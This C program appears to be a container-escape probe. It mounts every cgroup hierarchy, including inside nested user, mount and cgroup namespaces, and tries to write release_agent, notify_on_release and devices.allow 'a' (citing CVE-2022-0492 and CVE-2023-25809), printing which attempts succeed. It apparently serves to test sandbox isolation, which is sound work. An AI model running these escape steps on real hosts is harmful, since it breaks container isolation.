// Looks for a way to the cgroups of the host: mounts every hierarchy that the kernel has, by both mount interfaces, in this
// namespace and in nested ones, and writes to what it finds. Says DID for what worked.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char* const hierarchies[] = {"rdma",    "memory",  "cpu,cpuacct", "cpuset", "devices",    "freezer", "blkio",
                                          "net_cls,net_prio", "pids",    "hugetlb",     "perf_event", "misc",    "none,name=escape",
                                          "none,name=systemd"};

static void put(const char* directory, const char* file, const char* text, const char* where) {
  char path[512];
  snprintf(path, sizeof path, "%s/%s", directory, file);
  int fd = open(path, O_WRONLY);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) >= 0) printf("DID write %s %s\n", file, where);
  close(fd);
}

// What CVE-2022-0492 did with a hierarchy, and what CVE-2023-25809 did with one that was left writable.
static void abuse(const char* directory, const char* where) {
  char path[512];
  put(directory, "release_agent", "/tmp/anchor-escape", where);
  put(directory, "notify_on_release", "1", where);
  put(directory, "cgroup.procs", "0", where);
  put(directory, "tasks", "0", where);
  put(directory, "memory.max", "max", where);
  put(directory, "pids.max", "max", where);
  put(directory, "devices.allow", "a", where);
  put(directory, "cgroup.subtree_control", "+memory +pids", where);
  put(directory, "cgroup.kill", "0", where);
  snprintf(path, sizeof path, "%s/anchor-escape", directory);
  if (mkdir(path, 0755) == 0) {
    printf("DID mkdir %s\n", where);
    put(path, "notify_on_release", "1", where);
    put(path, "cgroup.procs", "0", where);
  }
}

static void mount_all(const char* where) {
  mkdir("/tmp/cg", 0755);
  for (size_t i = 0; i <= sizeof hierarchies / sizeof *hierarchies; i++) {
    int second = i == sizeof hierarchies / sizeof *hierarchies;
    if (mount("cgroup", "/tmp/cg", second ? "cgroup2" : "cgroup", 0, second ? 0 : hierarchies[i]) == 0) {
      printf("DID mount %s %s\n", second ? "cgroup2" : hierarchies[i], where);
      abuse("/tmp/cg", where);
      umount2("/tmp/cg", MNT_DETACH);
    }
  }
  long context = syscall(SYS_fsopen, "cgroup2", 0);
  if (context >= 0 && syscall(SYS_fsconfig, context, 6, 0, 0, 0) == 0) {
    long made = syscall(SYS_fsmount, context, 0, 0);
    if (made >= 0) {
      char path[64];
      printf("DID fsmount cgroup2 %s\n", where);
      snprintf(path, sizeof path, "/proc/self/fd/%ld", made);
      abuse(path, where);
    }
  }
}

static void nested(int flags, const char* where) {
  pid_t child = fork();
  if (child == 0) {
    if (unshare(flags) != 0) _exit(0);
    printf("DID unshare %s\n", where);
    mount_all(where);
    fflush(stdout);
    _exit(0);
  }
  waitpid(child, 0, 0);
}

int main(void) {
  setvbuf(stdout, 0, _IOLBF, 0);
  static const char* const places[] = {"/sys/fs/cgroup",
                                       "/sys/fs/cgroup/unified",
                                       "/sys/fs/cgroup/memory",
                                       "/sys/fs/cgroup/rdma",
                                       "/sys/fs/cgroup/systemd",
                                       "/proc/1/root/sys/fs/cgroup",
                                       "/proc/self/root/sys/fs/cgroup"};
  for (size_t i = 0; i < sizeof places / sizeof *places; i++) abuse(places[i], places[i]);
  mount_all("here");
  nested(CLONE_NEWUSER | CLONE_NEWNS, "in a nested user namespace");
  nested(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, "in a nested cgroup namespace");
  nested(CLONE_NEWNS, "in a nested mount namespace");
  if (setns(open("/proc/1/ns/cgroup", O_RDONLY), 0) == 0) puts("DID setns");
  puts("end");
  return 0;
}
